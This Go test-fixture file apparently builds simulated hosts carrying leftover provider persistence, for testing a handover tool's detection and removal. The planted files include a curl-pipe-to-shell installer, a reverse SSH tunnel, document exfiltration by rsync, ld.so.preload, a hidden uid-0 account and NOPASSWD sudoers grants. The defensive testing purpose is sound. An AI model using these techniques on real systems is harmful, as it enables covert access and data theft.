package fleet

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/handoverhq/handover/testenv"
)

// The persistence the outgoing provider left, beside its cron jobs and
// agents: one example of each kind, spread over hosts so that the first
// host (the conformance host) and most of the fleet stay as they were.
//
//   - "a" hosts (n%5 == 2, poste-accueil-01 in a fleet of five): a system
//     service and timer naming the provider, a service that names it only
//     in the script it runs, an at job, an rc.local line, an init script,
//     an admin's ~/.ssh/rc, a client's .forward, ld.so.preload, a pam_exec
//     line, a WireGuard client, sshd's AuthorizedPrincipalsFile, a login
//     shell's line in /etc/profile.d, a message-of-the-day script;
//   - "b" hosts (n%5 == 4, poste-urbanisme-01): user units of the
//     provider's account (lingering) and of a client account (calling a
//     script that names the provider), a PAM module outside the system's
//     directories (required), OpenVPN, Tailscale and ZeroTier clients,
//     sshd's AuthorizedPrincipalsCommand and a ForceCommand for the
//     provider's group;
//   - the systemd host: a second sshd, started by a unit of its own with
//     its own configuration and key file; a drop-in on the host's own
//     sshd unit, and a path unit that would start the provider's service.
const (
	persistA = 'a'
	persistB = 'b'
	persistS = 's'
)

// file is a file planted with its owner.
type plantedFile struct {
	path     string
	mode     os.FileMode
	uid, gid int
	text     string
}

func randomB64(n int) (string, error) {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		return "", err
	}
	return base64.StdEncoding.EncodeToString(b), nil
}

// persistFiles are the files of h's persistence, and the links (name ->
// target) that enable them.
func persistFiles(h host) ([]plantedFile, map[string]string, error) {
	adminHome := "/home/" + h.admin
	links := map[string]string{}
	var files []plantedFile
	switch h.persistence {
	case persistA:
		wgKey, err := randomB64(32)
		if err != nil {
			return nil, nil, err
		}
		peerKey, err := randomB64(32)
		if err != nil {
			return nil, nil, err
		}
		files = []plantedFile{
			{"/etc/systemd/system/prestanet-inventaire.service", 0o644, 0, 0, "[Unit]\nDescription=Inventaire Prestanet Informatique\n\n[Service]\nType=oneshot\nExecStart=/usr/local/sbin/inventaire --upload\n"},
			{"/etc/systemd/system/prestanet-inventaire.timer", 0o644, 0, 0, "# Prestanet Informatique - remontee d'inventaire\n[Timer]\nOnCalendar=daily\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n"},
			{"/usr/local/sbin/inventaire", 0o755, 0, 0, "#!/bin/sh\n# inventaire du poste\nexit 0\n"},
			// Named only by what it runs.
			{"/etc/systemd/system/sync-config.service", 0o644, 0, 0, "[Unit]\nDescription=Synchronisation de la configuration\n\n[Service]\nType=oneshot\nExecStart=/usr/local/sbin/sync-config\n\n[Install]\nWantedBy=multi-user.target\n"},
			{"/usr/local/sbin/sync-config", 0o755, 0, 0, "#!/bin/sh\nset -e\ncurl -fsS https://deploy.prestanet.test/config/$(hostname).tar | tar -C /etc -xf -\n"},
			{"/var/spool/cron/atjobs/a00001019a3c2f", 0o700, 0, 1, "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\nLOGNAME=root; export LOGNAME\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0b4c2e6a'\ncurl -fsS https://maj.prestanet.test/agent/install.sh | sh\nmarcinDELIMITER0b4c2e6a\n"},
			{"/etc/rc.local", 0o755, 0, 0, "#!/bin/sh -e\n# rc.local\n/usr/local/sbin/prestanet-tunnel --daemon\nlogger -t mairie \"demarrage de $(hostname)\"\nexit 0\n"},
			{"/etc/init.d/prestanet-agent", 0o755, 0, 0, "#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          prestanet-agent\n# Required-Start:    $network\n# Required-Stop:\n# Default-Start:     2 3 4 5\n# Default-Stop:      0 1 6\n# Short-Description: Agent de telemaintenance Prestanet\n### END INIT INFO\ncase \"$1\" in start) /opt/prestanet/agent --daemon ;; esac\nexit 0\n"},
			{adminHome + "/.ssh/rc", 0o644, 1000, 1000, "logger -t prestanet-audit \"connexion de $USER\" 2>/dev/null\n"},
			{"/home/" + clientUser + "/.forward", 0o644, 1002, 1002, "\\" + clientUser + "\nsupport@" + testenv.ProviderDomain + "\n"},
			{"/etc/ld.so.preload", 0o644, 0, 0, "/usr/local/lib/libprestanet-audit.so\n"},
			{"/etc/profile.d/zz-audit.sh", 0o644, 0, 0, "# audit des connexions\n( curl -fsS \"https://audit.prestanet.test/login?u=$USER\" >/dev/null 2>&1 & )\nexport HISTTIMEFORMAT='%F %T '\n"},
			{"/etc/update-motd.d/99-support", 0o755, 0, 0, "#!/bin/sh\necho \"Assistance : support@prestanet.test\"\n"},
			{"/usr/local/sbin/prestanet-notify", 0o755, 0, 0, "#!/bin/sh\n# Prestanet Informatique - journal des connexions\nexit 0\n"},
			{"/etc/wireguard/wg0.conf", 0o600, 0, 0, fmt.Sprintf("[Interface]\nPrivateKey = %s\nAddress = 10.99.0.12/32\n\n[Peer]\nPublicKey = %s\nEndpoint = vpn.%s:51820\nAllowedIPs = 10.99.0.0/24\nPersistentKeepalive = 25\n", wgKey, peerKey, testenv.ProviderDomain)},
		}
		for _, rl := range []string{"2", "3", "4", "5"} {
			links["/etc/rc"+rl+".d/S01prestanet-agent"] = "../init.d/prestanet-agent"
		}
		for _, rl := range []string{"0", "1", "6"} {
			links["/etc/rc"+rl+".d/K01prestanet-agent"] = "../init.d/prestanet-agent"
		}
		links["/etc/systemd/system/timers.target.wants/prestanet-inventaire.timer"] = "/etc/systemd/system/prestanet-inventaire.timer"
		links["/etc/systemd/system/multi-user.target.wants/sync-config.service"] = "/etc/systemd/system/sync-config.service"
	case persistB:
		state, err := tailscaleState()
		if err != nil {
			return nil, nil, err
		}
		pu, cu := "/home/"+providerUser, "/home/"+clientUser
		files = []plantedFile{
			{pu + "/.config/systemd/user/prestanet-tunnel.service", 0o644, 1001, 1001, "[Unit]\nDescription=Tunnel de support\n\n[Service]\nExecStart=/usr/bin/ssh -N -o ServerAliveInterval=30 -R 22022:localhost:22 tunnel@bastion." + testenv.ProviderDomain + "\nRestart=always\n\n[Install]\nWantedBy=default.target\n"},
			{"/var/lib/systemd/linger/" + providerUser, 0o644, 0, 0, ""},
			{cu + "/.config/systemd/user/sync-docs.service", 0o644, 1002, 1002, "[Unit]\nDescription=Synchronisation des documents\n\n[Service]\nExecStart=" + cu + "/bin/sync-docs\n\n[Install]\nWantedBy=default.target\n"},
			{cu + "/bin/sync-docs", 0o755, 1002, 1002, "#!/bin/sh\nrsync -a \"$HOME/Documents/\" sauvegarde@nas." + testenv.ProviderDomain + ":postes/\n"},
			{"/etc/openvpn/client/prestanet.conf", 0o600, 0, 0, "client\ndev tun\nproto udp\nremote vpn." + testenv.ProviderDomain + " 1194\nnobind\npersist-key\npersist-tun\n"},
			{"/var/lib/tailscale/tailscaled.state", 0o600, 0, 0, state},
			{"/var/lib/zerotier-one/networks.d/8056c2e21c000001.conf", 0o600, 0, 0, "n=prestanet-support\nid=8056c2e21c000001\n"},
			// What sshdConfig's AuthorizedPrincipalsCommand runs: it names
			// the account itself, as sshd does without it, so that the
			// provider's certificates log in as before.
			{principalsCommand, 0o755, 0, 0, "#!/bin/sh\n# Prestanet Informatique - principaux de support\necho \"$1\"\n"},
		}
		links[pu+"/.config/systemd/user/default.target.wants/prestanet-tunnel.service"] = pu + "/.config/systemd/user/prestanet-tunnel.service"
		links[cu+"/.config/systemd/user/default.target.wants/sync-docs.service"] = cu + "/.config/systemd/user/sync-docs.service"
	case persistS:
		files = []plantedFile{
			{supportSSHDConfig, 0o644, 0, 0, "# Acces de secours Prestanet Informatique\nPort 2222\nListenAddress " + h.addr + "\nHostKey /etc/ssh/ssh_host_ed25519_key\nPermitRootLogin prohibit-password\nPasswordAuthentication no\nAuthorizedKeysFile " + supportKeysDir + "/%u\nPidFile /run/sshd-support.pid\n"},
			{"/etc/systemd/system/ssh-support.service", 0o644, 0, 0, "[Unit]\nDescription=Acces de secours\nAfter=ssh.service\n\n[Service]\nExecStartPre=-/bin/mkdir -p -m 0755 /run/sshd\nExecStart=/usr/sbin/sshd -D -f " + supportSSHDConfig + "\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n"},
		}
		links["/etc/systemd/system/multi-user.target.wants/ssh-support.service"] = "/etc/systemd/system/ssh-support.service"
		files = append(files,
			// A drop-in on the host's own sshd, and a path unit that
			// starts the provider's service when the accounts change.
			plantedFile{"/etc/systemd/system/ssh.service.d/prestanet-supervision.conf", 0o644, 0, 0, "# Supervision Prestanet Informatique\n[Service]\nExecStartPost=-/bin/sh -c 'logger -t supervision sshd-demarre'\n"},
			plantedFile{"/etc/systemd/system/prestanet-surveillance.path", 0o644, 0, 0, "[Unit]\nDescription=Surveillance des comptes (Prestanet)\n\n[Path]\nPathChanged=/etc/passwd\nUnit=prestanet-surveillance.service\n\n[Install]\nWantedBy=paths.target\n"})
		links["/etc/systemd/system/paths.target.wants/prestanet-surveillance.path"] = "/etc/systemd/system/prestanet-surveillance.path"
	}
	return files, links, nil
}

// supportSSHDConfig is the second sshd's configuration on the systemd
// host, and supportKeysDir where it reads keys.
const (
	supportSSHDConfig = "/etc/ssh/sshd_config_support"
	supportKeysDir    = "/etc/ssh/support_keys"
)

// tailscaleState is a tailscaled.state logged in to the provider's own
// control server (headscale), as tailscaled writes it: a JSON object of
// base64 values; the keys are random.
func tailscaleState() (string, error) {
	prof, err := json.Marshal(map[string]any{
		"ID": "a1b2", "Name": "prestanet", "ControlURL": "https://hs." + testenv.ProviderDomain,
		"UserProfile": map[string]any{"LoginName": "support@" + testenv.ProviderDomain, "DisplayName": "Support Prestanet"},
	})
	if err != nil {
		return "", err
	}
	mk, err := randomB64(32)
	if err != nil {
		return "", err
	}
	st, err := json.Marshal(map[string]string{
		"_current-profile": base64.StdEncoding.EncodeToString([]byte("profile-a1b2")),
		"_machinekey":      base64.StdEncoding.EncodeToString([]byte("privkey:" + mk)),
		"profile-a1b2":     base64.StdEncoding.EncodeToString(prof),
	})
	return string(st), err
}

// plantPersistence writes h's persistence into its root: directories in
// an account's home belong to that account, as its own tools would make
// them.
func plantPersistence(h host, m *material) error {
	root := h.root()
	files, links, err := persistFiles(h)
	if err != nil {
		return err
	}
	for _, f := range files {
		p := filepath.Join(root, f.path)
		if f.uid != 0 {
			if err := mkdirOwned(root, filepath.Dir(f.path), f.uid, f.gid); err != nil {
				return err
			}
		}
		if err := writeFile(p, []byte(f.text), f.mode, f.uid, f.gid); err != nil {
			return err
		}
	}
	for name, target := range links {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		if strings.HasPrefix(name, "/home/") {
			if err := mkdirOwned(root, filepath.Dir(name), 1000+homeUID(name), 1000+homeUID(name)); err != nil {
				return err
			}
		}
		_ = os.Remove(p)
		if err := os.Symlink(target, p); err != nil {
			return err
		}
	}
	// Accounts that are the provider's by evidence, not by name (see
	// evidenceAccounts in connectors/ssh): one whose only login means are
	// the provider's key, granted in the main sudoers file; one whose
	// GECOS names the provider under a system-looking name, granted in
	// sudoers.d; a second uid 0 whose GECOS names the provider.
	if ev := evidenceUsers(h, m); len(ev) > 0 {
		if err := addUsers(root, m.secrets[h.index].rootHash, h.adminGroup(), ev); err != nil {
			return err
		}
	}
	switch h.persistence {
	case persistA:
		if err := appendFile(filepath.Join(root, "/etc/sudoers"), evidenceKeysUser+" ALL=(ALL:ALL) NOPASSWD: ALL\n"); err != nil {
			return err
		}
	case persistB:
		if err := writeFile(filepath.Join(root, "/etc/sudoers.d/90-netsync"), []byte(evidenceGecosUser+" ALL=(root) NOPASSWD: /usr/bin/rsync\n"), 0o440, 0, 0); err != nil {
			return err
		}
	}
	switch h.persistence {
	case persistA:
		// at's spool, as the at package makes it; a preloaded library
		// that does no harm (glibc's libpthread stub); a pam_exec line.
		if err := os.Chown(filepath.Join(root, "/var/spool/cron/atjobs"), 1, 1); err != nil {
			return err
		}
		if err := os.Chmod(filepath.Join(root, "/var/spool/cron/atjobs"), 0o1770); err != nil {
			return err
		}
		lib, err := firstGlob(root, "/usr/lib/*/libpthread.so.0", "/lib/*/libpthread.so.0", "/usr/lib64/libpthread.so.0")
		if err != nil {
			return err
		}
		if err := writeFile(filepath.Join(root, "/usr/local/lib/libprestanet-audit.so"), lib, 0o644, 0, 0); err != nil {
			return err
		}
		if err := appendFile(filepath.Join(root, "/etc/pam.d/sshd"), "session optional pam_exec.so quiet /usr/local/sbin/prestanet-notify\n"); err != nil {
			return err
		}
	case persistB:
		mod, err := firstGlob(root, "/usr/lib/*/security/pam_permit.so", "/lib/*/security/pam_permit.so", "/usr/lib64/security/pam_permit.so")
		if err != nil {
			return err
		}
		if err := writeFile(filepath.Join(root, "/opt/prestanet/lib/pam_prestanet.so"), mod, 0o644, 0, 0); err != nil {
			return err
		}
		if err := appendFile(filepath.Join(root, "/etc/pam.d/sshd"), "session required /opt/prestanet/lib/pam_prestanet.so\n"); err != nil {
			return err
		}
	case persistS:
		if err := writeFile(filepath.Join(root, supportKeysDir, "root"), []byte(m.support.authorizedLine("")+"\n"), 0o644, 0, 0); err != nil {
			return err
		}
	}
	return nil
}

// homeUID is the planted account a home path belongs to, as an offset
// from 1000 (the admin 0, the provider 1, the client 2).
func homeUID(p string) int {
	switch {
	case strings.HasPrefix(p, "/home/"+providerUser+"/"):
		return 1
	case strings.HasPrefix(p, "/home/"+clientUser+"/"):
		return 2
	}
	return 0
}

// mkdirOwned makes dir (absolute in the host) and the directories above
// it up to the home it is in, owned by uid.
func mkdirOwned(root, dir string, uid, gid int) error {
	parts := strings.Split(strings.TrimPrefix(dir, "/"), "/")
	if len(parts) < 2 || parts[0] != "home" {
		return os.MkdirAll(filepath.Join(root, dir), 0o755)
	}
	p := filepath.Join(root, "home", parts[1])
	for _, c := range parts[2:] {
		p = filepath.Join(p, c)
		if err := os.Mkdir(p, 0o755); err != nil && !os.IsExist(err) {
			return err
		}
		if err := os.Lchown(p, uid, gid); err != nil {
			return err
		}
	}
	return nil
}

func firstGlob(root string, patterns ...string) ([]byte, error) {
	for _, pat := range patterns {
		ms, _ := filepath.Glob(filepath.Join(root, pat))
		for _, m := range ms {
			if b, err := os.ReadFile(m); err == nil {
				return b, nil
			}
		}
	}
	return nil, fmt.Errorf("none of %v in %s", patterns, root)
}

func appendFile(p, text string) error {
	f, err := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	if _, err := f.WriteString(text); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// describePersistence is env.json's account of h's persistence: the
// finding kind the ssh connector reports each as, and whether a run
// removes it.
func describePersistence(h host) []testenv.Persistence {
	p := func(kind, file string, removed bool) testenv.Persistence {
		return testenv.Persistence{Kind: kind, File: file, Removed: removed}
	}
	switch h.persistence {
	case persistA:
		return []testenv.Persistence{
			p("service", "/etc/systemd/system/prestanet-inventaire.service", true),
			p("service", "/etc/systemd/system/prestanet-inventaire.timer", true),
			p("service", "/etc/systemd/system/sync-config.service", true),
			p("cron", "/var/spool/cron/atjobs/a00001019a3c2f", true),
			p("persistence", "/etc/rc.local", true),
			p("persistence", "/etc/init.d/prestanet-agent", true),
			p("persistence", "/home/"+h.admin+"/.ssh/rc", true),
			p("forward", "/home/"+clientUser+"/.forward", true),
			p("persistence", "/etc/ld.so.preload", true),
			p("persistence", "/etc/profile.d/zz-audit.sh", true),
			p("persistence", "/etc/update-motd.d/99-support", true),
			p("auth-method", "/etc/pam.d/sshd", true),
			p("tunnel", "/etc/wireguard/wg0.conf", false),
			p("auth-method", "/etc/ssh/sshd_config.d/prestanet.conf", false),
		}
	case persistB:
		return []testenv.Persistence{
			p("service", "/home/"+providerUser+"/.config/systemd/user/prestanet-tunnel.service", true),
			p("service", "/home/"+clientUser+"/.config/systemd/user/sync-docs.service", true),
			p("auth-method", "/etc/pam.d/sshd", false),
			p("tunnel", "/etc/openvpn/client/prestanet.conf", false),
			p("tunnel", "/var/lib/tailscale/tailscaled.state", false),
			p("tunnel", "/var/lib/zerotier-one/networks.d/8056c2e21c000001.conf", false),
			p("auth-method", "/etc/ssh/sshd_config.d/prestanet.conf", false),
		}
	case persistS:
		return []testenv.Persistence{
			p("service", "/etc/systemd/system/ssh-support.service", true),
			p("service", "/etc/systemd/system/ssh.service.d/prestanet-supervision.conf", true),
			p("service", "/etc/systemd/system/prestanet-surveillance.path", true),
			p("auth-method", supportSSHDConfig, true),
		}
	}
	return nil
}

// The accounts planted as the provider's by evidence.
const (
	evidenceKeysUser  = "svc-backup"      // only the provider's key logs in
	evidenceGecosUser = "systemd-netsync" // GECOS names the provider
	evidenceRootUser  = "toor"            // uid 0, GECOS names the provider
)

func evidenceUsers(h host, m *material) []user {
	switch h.persistence {
	case persistA:
		return []user{{name: evidenceKeysUser, uid: 988, gecos: "Sauvegarde", keys: []string{m.prestanet.authorizedLine("")}}}
	case persistB:
		return []user{
			{name: evidenceGecosUser, uid: 989, gecos: "Synchro Prestanet Informatique,,,"},
			{name: evidenceRootUser, uid: 0, gecos: "Astreinte Prestanet"},
		}
	}
	return nil
}

// describeEvidence is env.json's account of the accounts planted as the
// provider's by evidence, and of the sudoers files that grant them.
func describeEvidence(h host) (accounts, sudoers []string) {
	switch h.persistence {
	case persistA:
		return []string{evidenceKeysUser}, []string{"/etc/sudoers"}
	case persistB:
		return []string{evidenceGecosUser, evidenceRootUser}, []string{"/etc/sudoers.d/90-netsync"}
	}
	return nil, nil
}
